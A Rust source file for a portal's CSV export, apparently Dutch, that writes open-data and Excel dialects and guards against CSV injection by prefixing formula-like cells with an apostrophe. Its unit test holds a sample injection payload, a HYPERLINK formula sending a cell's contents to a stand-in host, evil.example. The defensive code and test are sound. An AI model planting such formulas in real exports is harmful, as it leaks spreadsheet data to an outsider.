//! The one CSV writer of every export the portal sends: the open data (comma-separated,
//! decimal points, for programs) and the contract managers' files "voor Excel" (what Dutch
//! Excel opens in columns: semicolons, decimal commas, a UTF-8 byte-order mark).
//!
//! Every text cell that a spreadsheet would read as a formula (starting with `=`, `+`, `-`,
//! `@`, a tab or a carriage return) gets a leading apostrophe, as OWASP advises against CSV
//! injection: a provider's name like `=HYPERLINK(…)` stays text. Numbers written by the
//! portal (a cell that parses as one, such as `-0.5`) are left as they are.

use actix_web::HttpResponse;

use super::AppError;

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Dialect {
    /// Open data: `,`, decimal point, no byte-order mark.
    OpenData,
    /// For Dutch Excel: `;`, decimal comma, UTF-8 byte-order mark.
    Excel,
}

pub struct CsvExport {
    dialect: Dialect,
    writer: csv::Writer<Vec<u8>>,
}

/// The cell as written: with an apostrophe before what a spreadsheet would run as a formula.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && cell.trim().parse::<f64>().is_err() {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

impl CsvExport {
    pub fn new(dialect: Dialect) -> Self {
        let mut out = Vec::new();
        if dialect == Dialect::Excel {
            out.extend_from_slice("\u{feff}".as_bytes());
        }
        let writer = csv::WriterBuilder::new()
            .delimiter(match dialect {
                Dialect::OpenData => b',',
                Dialect::Excel => b';',
            })
            .from_writer(out);
        CsvExport { dialect, writer }
    }

    /// A number with `places` decimals in the dialect's notation; nothing for no value.
    pub fn number(&self, value: Option<f64>, places: usize) -> String {
        let Some(value) = value else {
            return String::new();
        };
        let text = format!("{value:.places$}");
        match self.dialect {
            Dialect::OpenData => text,
            Dialect::Excel => text.replace('.', ","),
        }
    }

    /// One row; every cell neutralised.
    pub fn row<I, S>(&mut self, cells: I) -> Result<(), AppError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned())
            .collect();
        self.writer
            .write_record(&cells)
            .map_err(|e| AppError::Internal(anyhow::anyhow!("csv: {e}")))
    }

    pub fn into_bytes(self) -> Result<Vec<u8>, AppError> {
        self.writer
            .into_inner()
            .map_err(|e| AppError::Internal(anyhow::anyhow!("csv: {e}")))
    }

    /// The file as a download named `file_name` (ASCII letters, digits, `-`, `_` and `.`).
    pub fn attachment(bytes: Vec<u8>, file_name: &str) -> HttpResponse {
        let safe: String = file_name
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.') {
                    c
                } else {
                    '-'
                }
            })
            .collect();
        HttpResponse::Ok()
            .content_type("text/csv; charset=utf-8")
            .insert_header((
                "Content-Disposition",
                format!("attachment; filename=\"{safe}\""),
            ))
            .body(bytes)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klik hier\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klik hier\")",
            ),
            ("+31 70 000 0000", "'+31 70 000 0000"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-0.5", "-0.5"),
            ("0.25", "0.25"),
            ("De Kompas", "De Kompas"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn excel_files_have_a_bom_semicolons_and_decimal_commas() {
        let mut excel = CsvExport::new(Dialect::Excel);
        let value = excel.number(Some(0.1132), 4);
        excel.row(["=1+1", value.as_str()]).expect("row");
        let bytes = excel.into_bytes().expect("bytes");
        assert_eq!(
            String::from_utf8(bytes).expect("utf-8"),
            "\u{feff}'=1+1;0,1132\n"
        );
        let mut open = CsvExport::new(Dialect::OpenData);
        let value = open.number(Some(0.1132), 4);
        open.row(["a;b", value.as_str()]).expect("row");
        assert_eq!(open.into_bytes().expect("bytes"), b"a;b,0.1132\n");
    }
}
